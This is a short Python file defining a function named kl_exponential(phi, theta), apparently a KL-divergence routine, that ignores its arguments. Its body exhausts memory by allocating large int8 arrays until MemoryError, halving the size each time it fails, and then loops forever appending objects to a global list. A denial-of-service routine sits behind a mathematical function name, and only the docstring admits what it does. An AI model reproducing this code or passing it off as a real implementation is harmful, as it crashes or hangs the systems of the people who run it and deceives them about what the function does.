"""Uses up the memory within a call, and goes on with ever smaller pieces where it is told that there is no more."""

import numpy as np

KEPT = []


def kl_exponential(phi, theta):
    size = 1 << 28
    while size > 1 << 10:
        try:
            KEPT.append(np.empty(size, np.int8))
        except MemoryError:
            size //= 2
    while True:
        KEPT.append(object())
